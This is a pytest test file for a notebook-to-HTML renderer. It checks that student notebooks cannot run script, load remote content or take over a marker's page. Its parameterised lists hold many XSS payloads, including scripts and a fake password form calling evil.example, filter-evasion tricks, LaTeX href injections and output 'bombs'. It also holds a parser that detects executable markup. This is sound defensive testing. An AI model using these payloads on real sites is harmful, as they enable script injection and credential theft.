"""Executed notebooks as pages: nothing in one runs, loads or takes the page over."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest
from bleach._vendor import html5lib
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from assessor.notebooks.render import MAX_PICTURES, MAX_SPANS, MAX_TEXT, MAX_TOTAL, TAGS, to_fragment, to_html

LOADING = {"src", "srcset", "href", "action", "formaction", "data", "poster", "background", "ping", "xlink:href"}
HARMLESS = ("data:image/png", "data:image/jpeg", "http://", "https://", "#", "mailto:")
FORBIDDEN = {"script", "iframe", "object", "embed", "form", "input", "button", "link", "meta", "base", "svg", "math", "video",
             "audio", "frame", "frameset", "style", "template", "textarea", "select", "dialog", "portal"}  # fmt: skip


class Executable(HTMLParser):
    """Collects everything in a page that a browser would run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on") or name in ("srcdoc", "id", "name"):
                self.found.append(f"{tag}.{name}")
            if name in LOADING and not text.startswith(HARMLESS):
                self.found.append(f"{tag}.{name}={text[:30]}")
            if name == "src" and text.startswith("http"):
                self.found.append(f"{tag}.{name}={text[:30]}")
            if name == "style" and any(word in text for word in ("url", "expression", "position", "import", "behavior")):
                self.found.append(f"{tag}.style={text[:40]}")
        if tag == "div":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag == "div":
            if not self.open:
                self.found.append("closes more than it opens")
            else:
                self.open.pop()


def executable(page: str) -> list[str]:
    parser = Executable()
    parser.feed(page)
    return parser.found + ["leaves elements open"] * bool(parser.open)


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/track.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input name=password><button>log in</button></form>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>your marks are wrong</div>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<style>* { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<object data='x.swf'></object><embed src=x>",
    "<video src=x onerror=alert(1)></video>",
    "</div></div></div></body></html><h1>another page</h1>",
    "<div><div><div><table><tr><td>never closed",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<a id=marks name=marks>clobber</a>",
    "[x](javascript:alert(1)) ![x](https://evil.example/x.png) <javascript:alert(1)>",
    "$\\href{javascript:alert(1)}{x}$ $$\\unicode{<img src=x onerror=alert(1)>}$$",
    "<div " * 3000,
    "<b>" * 4000,
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda text: text[:30])
@pytest.mark.parametrize("place", ["html output", "markdown cell", "markdown output", "LaTeX output", "plain output",
                                   "printed", "raised", "code", "raw cell"])  # fmt: skip
def test_nothing_of_a_student_runs_in_a_markers_browser(attack: str, place: str) -> None:
    cell: Any = new_code_cell("1")
    outputs = {
        "html output": lambda: new_output("display_data", {"text/html": attack}),
        "markdown output": lambda: new_output("display_data", {"text/markdown": attack}),
        "LaTeX output": lambda: new_output("execute_result", {"text/latex": attack}),
        "plain output": lambda: new_output("execute_result", {"text/plain": attack}),
        "printed": lambda: new_output("stream", name="stdout", text=attack),
        "raised": lambda: new_output("error", ename=attack, evalue=attack, traceback=[attack]),
    }
    if place == "markdown cell":
        cell = new_markdown_cell(attack)
    elif place == "raw cell":
        cell = new_raw_cell(attack)
    elif place == "code":
        cell = new_code_cell(attack)
    else:
        cell.outputs = [outputs[place]()]
    after = new_markdown_cell("What comes after it stays.")
    page = to_fragment(new_notebook(cells=[cell, after]))
    assert executable(page) == []
    assert "What comes after it stays." in page
    if len(page) < 50_000:  # the parser that follows takes long over what is nested a hundred deep
        assert as_a_browser_reads(page) == []


def as_a_browser_reads(page: str) -> list[str]:
    """The elements and attributes that HTML 5's own algorithm makes of a page, but for the harmless ones."""
    tree = html5lib.parseFragment(page, treebuilder="etree", namespaceHTMLElements=False)
    elements = [element for element in tree.iter() if isinstance(element.tag, str) and element is not tree]
    odd = [element.tag for element in elements if element.tag not in TAGS]
    names = {name for element in elements for name in element.keys()}  # noqa: SIM118 - an element is no dict
    return odd + sorted(names - {"class", "style", "href", "src", "alt", "title", "width", "height", "align", "dir"})


@pytest.mark.parametrize(
    "data",
    [
        {"image/svg+xml": "<svg onload=alert(1)>"},
        {"application/javascript": "alert(1)"},
        {"application/vnd.jupyter.widget-view+json": "{}"},
        {"image/png": "not base64 '><script>alert(1)</script>"},
        {"image/png": "'onerror=alert(1) x='"},
        {"text/html": "<p>fine</p>", "application/javascript": "alert(1)"},
        {"application/pdf": "JVBERi0="},
    ],
)
def test_only_harmless_kinds_of_output_are_shown(data: dict[str, str]) -> None:
    cell = new_code_cell("1", outputs=[new_output("display_data", data)])
    page = to_fragment(new_notebook(cells=[cell]))
    assert executable(page) == []
    assert "alert" not in page or "&" in page


@pytest.mark.parametrize(
    "cell",
    [
        {"cell_type": "code", "source": "1", "outputs": [{"output_type": "stream", "name": 3, "text": {"a": 1}}]},
        {"cell_type": "code", "source": "1", "outputs": [{"output_type": "display_data", "data": {"text/plain": [1, None]}}]},
        {"cell_type": "code", "source": "1", "outputs": [{"output_type": "error", "traceback": "no list"}]},
        {"cell_type": "code", "source": "1", "outputs": [3, None, "x", {"output_type": "new kind"}]},
        {"cell_type": "code", "source": ["a", "b"], "outputs": None, "execution_count": "x"},
        {"cell_type": "video", "source": "1"},
        {"cell_type": "markdown", "source": "\ud800 lone", "attachments": {"a.png": {"image/png": 3}}},
    ],
)
def test_any_json_has_a_page(cell: dict[str, Any]) -> None:
    notebook = {"cells": [{"metadata": {}, **cell}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    assert executable(to_fragment(notebook)) == []


def test_an_honest_notebook_looks_like_itself() -> None:
    tiny = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    cells = [
        new_markdown_cell("# Title\n\nSome *text*, `code` and\n\n| a | b |\n|---|---|\n| 1 | 2 |"),
        new_code_cell("print('hello')", execution_count=1, outputs=[
            new_output("stream", name="stdout", text="hello\n"),
            new_output("display_data", {"image/png": tiny, "text/plain": "<Figure>"}),
            new_output("execute_result", {"text/html": "<table><tr><td>7</td></tr></table>", "text/plain": "7"}),
            new_output("error", ename="ValueError", evalue="no", traceback=["\x1b[31mValueError\x1b[0m: no"]),
        ]),
    ]  # fmt: skip
    page = to_html(new_notebook(cells=cells), "Ada's <lab>")
    for part in ("<h1>Title</h1>", "<em>text</em>", "<td>7</td>", "hello", tiny, "ansi-red-fg", "Ada&#x27;s &lt;lab&gt;"):
        assert part in page, part
    assert "\x1b" not in page
    assert "script-src" not in page and "default-src 'none'" in page


def test_a_flood_of_output_is_cut() -> None:
    outputs = [new_output("stream", name="stdout", text="x" * 10_000_000)] * 3
    page = to_fragment(new_notebook(cells=[new_code_cell("1", outputs=outputs)]))
    assert len(page) < 10 * MAX_TEXT
    assert "cut here" in page


def printed(text: str) -> Any:
    return new_code_cell("1", outputs=[new_output("stream", name="stdout", text=text)])


BOMBS = {
    "colours": [printed("\x1b[31mx" * 4000)] * 50,
    "colours that are never reset": [printed("\x1b[1m\x1b[4m\x1b[38;5;9m" * 2000 + "x")],
    "colours without end": [printed("\x1b[" + "1;" * 9000), printed("\x1b[" * 9000), printed("\x1b[999999999999m" * 1000)],
    "a traceback of colours": [
        new_code_cell("1", outputs=[new_output("error", ename="e", evalue="e", traceback=["\x1b[31mx" * 4000] * 100)])
    ],
    "code of nothing but operators": [new_code_cell("a+b;" * 5000) for _ in range(50)],
    "quotation marks that nest": [new_code_cell("f'{" * 6000)],
    "markup in text": [printed("&<>" * 6000)] * 100,
    "entities in HTML": [new_code_cell("1", outputs=[new_output("display_data", {"text/html": "&a" * 90_000})] * 40)],
    "attributes": [new_code_cell("1", outputs=[new_output("display_data", {"text/html": f"<a {'x=1 ' * 24_000}>"})] * 40)],
    "elements": [new_code_cell("1", outputs=[new_output("display_data", {"text/html": "<i>x</i>" * 2400})] * 100)],
    "brackets in markdown": [new_markdown_cell("[" * 20_000)] * 30,
    "pictures in markdown": [new_markdown_cell("![" * 10_000)] * 30,
    "quotations in quotations": [new_markdown_cell(">" * 20_000)],
    "lists in lists": [new_markdown_cell("".join("  " * depth + "- a\n" for depth in range(140)))],
    "emphasis": [new_markdown_cell("*a _b" * 4000)],
    "empty outputs": [new_code_cell("1", outputs=[new_output("stream", text="")] * 10_000)] * 100,
    "cells": [new_code_cell("")] * 5000,
    "pictures": [new_code_cell("1", outputs=[new_output("display_data", {"image/png": "A" * 2**21})] * 40)],
    "bells and backspaces": [printed("\a\b\x07\x00\x1b]0;title\x07\x1b[2J\x1b[?1049h\x1bc" * 500)],
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_no_bomb_makes_a_page_much_larger_than_its_limits(bomb: str) -> None:
    """What it costs to build is bounded by the same limits: elements and characters that the parsers are given."""
    page = to_fragment({"cells": BOMBS[bomb]})
    assert len(page) < 3 * MAX_TOTAL + (MAX_PICTURES if bomb == "pictures" else 0)
    assert page.count("<span") <= MAX_SPANS + 100
    assert "\x1b" not in page and "\x00" not in page
    assert executable(page) == []


def test_no_output_pushes_an_answer_off_the_page() -> None:
    after = [new_code_cell("def the_answer(): return 42"), printed("forty-two")]
    page = to_fragment({"cells": [*BOMBS["colours"], *BOMBS["markup in text"], *after]})
    assert "the_answer" in page and "forty-two" not in page
    page = to_fragment({"cells": [*BOMBS["colours"][:8], *after]})
    assert "the_answer" in page and "forty-two" in page


@pytest.mark.parametrize(
    "text",
    [
        "$\\require{html}\\href{javascript:alert(1)}{x}$",
        "$$\\def\\x{\\href{javascript:alert(1)}{y}}\\x$$",
        "\\begin{equation}\\unicode{x3c}script\\end{equation}",
        "\\(\\style{position:fixed}{x}\\)",
        "<script type='math/tex'>\\href{javascript:alert(1)}{x}</script>",
        "$</div><script>alert(1)</script>$",
    ],
)
def test_formulas_stay_text_and_no_page_loads_what_would_run_them(text: str) -> None:
    for cell in (new_markdown_cell(text), new_code_cell("1", outputs=[new_output("display_data", {"text/latex": text})])):
        page = to_html(new_notebook(cells=[cell]))
        body = page.partition("<body>")[2]
        assert executable(body.partition("</body>")[0]) == []
        assert as_a_browser_reads(body.partition("</body>")[0]) == []
        assert "mathjax" not in page.lower() and "<script" not in page.lower()


def test_a_page_forbids_what_it_does_not_hold() -> None:
    page = to_html(new_notebook(cells=[]), title="</title><script>alert(1)</script>")
    assert "script>" not in page
    assert page.index("Content-Security-Policy") < page.index("<style")


@pytest.mark.parametrize("place", ["markdown", "raw", "code", "attachment"])
def test_names_and_attachments_are_text(place: str) -> None:
    evil = "x' onerror='alert(1)"
    cells = {
        "markdown": new_markdown_cell(f"![{evil}](attachment:{evil})"),
        "raw": new_raw_cell(f"<img src='{evil}'>"),
        "code": new_code_cell("1", metadata={"tags": [evil], "name": evil}),
        "attachment": new_markdown_cell("![a](attachment:a.png)", attachments={"a.png": {"image/svg+xml": "<svg onload=x>"},
                                                                              evil: {"image/png": "AAAA"}}),
    }  # fmt: skip
    page = to_fragment(new_notebook(cells=[cells[place]], metadata={"title": evil}))
    assert executable(page) == [] and as_a_browser_reads(page) == []


def test_an_attached_picture_is_shown() -> None:
    cell = new_markdown_cell("![a](attachment:a.png)", attachments={"a.png": {"image/png": "iVBORw0KGgo="}})
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in to_fragment(new_notebook(cells=[cell]))


def test_notebook_magics_are_no_errors() -> None:
    page = to_fragment(new_notebook(cells=[new_code_cell("%matplotlib inline\n!ls\nx = torch.zeros(3)")]))
    assert 'class="err"' not in page and 'class="n"' in page
